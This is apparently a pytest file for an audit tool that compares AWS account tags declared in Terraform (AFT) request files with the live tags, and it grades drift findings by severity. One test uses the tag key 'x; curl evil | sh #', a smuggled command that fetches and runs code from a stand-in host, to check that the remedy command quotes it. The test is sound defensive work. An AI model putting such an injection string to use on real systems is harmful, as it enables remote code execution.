"""Declared tags against live ones: what differs, and what it would decide."""

from __future__ import annotations

from dataclasses import replace

import pytest

from generator.audit.model import Severity
from generator.snapshot.model import Part, Snapshot
from tests.support import peered
from tests.support.audited import accounts, audit, ids, only
from tests.unit.audit.company import FILES, SEEN, ZONE, place, zone

REQUEST = "aft-account-request/terraform/{}.tf"


def _live(name: str, removed: str = "", **tags: str) -> Snapshot:
    """The account has other tags in AWS than its request says."""

    def changed(known: dict[str, str]) -> dict[str, str]:
        return {key: value for key, value in {**known, **tags}.items() if key != removed}

    return accounts(SEEN, place(name).account, lambda account: account._replace(tags=changed(dict(account.tags or {}))))


def test_a_tag_that_aft_never_removed() -> None:
    """The request does not have it any more; the remedy is the one call that AFT never makes."""
    found = only(audit(ZONE, _live("dev-web", cost="12")), "tag-drift-stale-live")

    assert 'cost = "12"' in found.message and "untag-resource --resource-id" in found.remedy and found.subject == "dev-web"
    assert found.file == REQUEST.format("dev-web") and found.line > 1


def test_further_tags_of_an_organization_that_has_more_of_them() -> None:
    """Only what the schema decides on is compared then; tags of AWS itself are nobody's."""
    freer = zone({**FILES, "scaffold.yaml": FILES["scaffold.yaml"] + b"other_tags: allow\n"})

    assert ids(audit(freer, _live("dev-web", cost="12"))) == {}
    assert ids(audit(freer, _live("dev-hub", removed="tier"))) == {"tag-drift-missing-live": 1, "tag-drift-decision": 2}
    assert ids(audit(ZONE, _live("dev-web", **{"aws:createdBy": "x"}))) == {}


def test_a_tag_that_is_not_on_the_account() -> None:
    """AFT has not run, or failed: by what is there nothing could be decided, which is not decided otherwise."""
    report = audit(ZONE, _live("dev-web", removed="owner"))

    assert {found.id for found in report.findings} == {"tag-drift-missing-live", "tag-drift-decision"}
    assert {found.severity for found in report.findings} == {Severity.MEDIUM}


def test_a_tag_with_another_value() -> None:
    """Old and new; no decision depends on it."""
    found = only(audit(ZONE, _live("dev-web", owner="team-x")), "tag-value-differs")

    assert found.evidence == {"key": "owner", "declared": "web", "live": "team-x"}


def test_a_tag_that_differs_and_decides() -> None:
    """By git the two may meet, by what is on the account they may not: critical, with the rule and both values."""
    report = audit(ZONE, _live("dev-web", environment="prod"))

    flips = {found.subject: found for found in report.findings if found.id == "tag-drift-decision"}
    assert set(flips) == {"dev-hub--dev-web", "dev-web--prod-hub"}
    assert all(found.severity is Severity.CRITICAL for found in flips.values())
    assert 'dev-web has environment "dev" and "prod"' in flips["dev-hub--dev-web"].message
    assert "by the requests allow (vpn-reaches-its-environment), by the tags in AWS deny" in flips["dev-hub--dev-web"].message
    assert "by the requests deny" in flips["dev-web--prod-hub"].message
    assert ids(report) == {"tag-value-differs": 1, "tag-drift-decision": 2}


def test_a_value_that_the_schema_does_not_have() -> None:
    """Live tags are judged as declared ones are: an account that cannot be classified connects nothing."""
    report = audit(ZONE, _live("dev-web", environment="Prod"))

    flip = next(found for found in report.findings if found.id == "tag-drift-decision")
    assert flip.subject == "dev-hub--dev-web" and "undetermined" in flip.message and flip.severity is Severity.MEDIUM


def test_a_change_that_was_merged_just_now() -> None:
    """Live tags are still as they were before: AFT is at it. Any other value is drift as ever."""
    before = zone({**FILES, REQUEST.format("dev-web"): FILES[REQUEST.format("dev-web")].replace(b'"dev"', b'"prod"')})

    settling = audit(ZONE, _live("dev-web", environment="prod"), before)
    other = audit(ZONE, _live("dev-web", environment="staging"), before)

    assert {found.severity for found in settling.findings if found.id == "tag-drift-decision"} == {Severity.MEDIUM}
    assert {found.severity for found in other.findings if found.id == "tag-drift-decision"} == {Severity.CRITICAL}


def test_tags_that_could_not_be_read() -> None:
    """Unknown, and a gap; no difference is claimed."""
    report = audit(ZONE, accounts(SEEN, place("dev-web").account, lambda account: account._replace(tags=None)))

    assert ids(report) == {} and [(gap.account, gap.part) for gap in report.gaps] == [(place("dev-web").account, Part.TAGS)]


def test_declared_tags_that_cannot_be_told() -> None:
    """What a request computes is not compared, and decides nothing by the live value alone."""
    path = REQUEST.format("dev-web")
    computed = zone({**FILES, path: FILES[path].replace(b'"owner"       = "web"', b'"owner"       = var.owner')})
    report = audit(computed, SEEN)

    assert "tag-unclassified" in ids(report) and not {"tag-drift-stale-live", "tag-value-differs"} & ids(report).keys()


def test_an_account_of_accounts_yaml_is_compared_too() -> None:
    """By its id."""
    made = SEEN.accounts[place("dev-hub").account]._replace(id="999988887777", email="h@acme.com", tags={})
    others = 'version: 1\naccounts:\n  hand-made:\n    id: "999988887777"\n    tags: {environment: dev, owner: web, tier: app}\n'
    seen = replace(SEEN, accounts={**SEEN.accounts, made.id: made})
    report = audit(zone({**FILES, "accounts.yaml": others.encode()}), seen)

    assert {found.subject for found in report.findings if found.id == "tag-drift-missing-live"} == {"hand-made"}


def test_an_account_that_is_not_vended_yet_is_no_drift() -> None:
    """There is nothing to compare it with."""
    fresh = peered.Account("dev-new", "web", vended=False)
    files = {**FILES, REQUEST.format("dev-new"): peered.request_file(fresh, 40)}

    assert ids(audit(zone(files), SEEN)) == {}


def test_settling_is_only_what_was_changed_just_now() -> None:
    """A tag that somebody adds in AWS meanwhile is drift as ever, whatever ref is named."""
    report = audit(ZONE, _live("dev-web", tier="vpn"), ZONE)

    assert Severity.CRITICAL in {found.severity for found in report.findings if found.id == "tag-drift-decision"}


def test_another_value_is_another_finding() -> None:
    """Who accepted one did not accept the next."""
    one, other = (audit(ZONE, _live("dev-web", environment=value)).findings for value in ("prod", "staging"))

    assert not {found.fingerprint for found in one} & {found.fingerprint for found in other}


def test_a_key_that_a_shell_would_read_is_quoted() -> None:
    """The remedy is a command to type."""
    report = audit(ZONE, _live("dev-web", **{"x; curl evil | sh #": "1"}))
    found = next(each for each in report.findings if each.id == "tag-drift-stale-live")

    assert found.remedy.endswith("--tag-keys 'x; curl evil | sh #'")


@pytest.mark.parametrize("email", ["AWS+DEV-WEB@acme.com"])
def test_accounts_join_by_address_in_lower_case(email: str) -> None:
    """AWS and a request may differ in case."""
    seen = accounts(_live("dev-web", owner="team-x"), place("dev-web").account, lambda account: account._replace(email=email))

    assert ids(audit(ZONE, seen)) == {"tag-value-differs": 1}
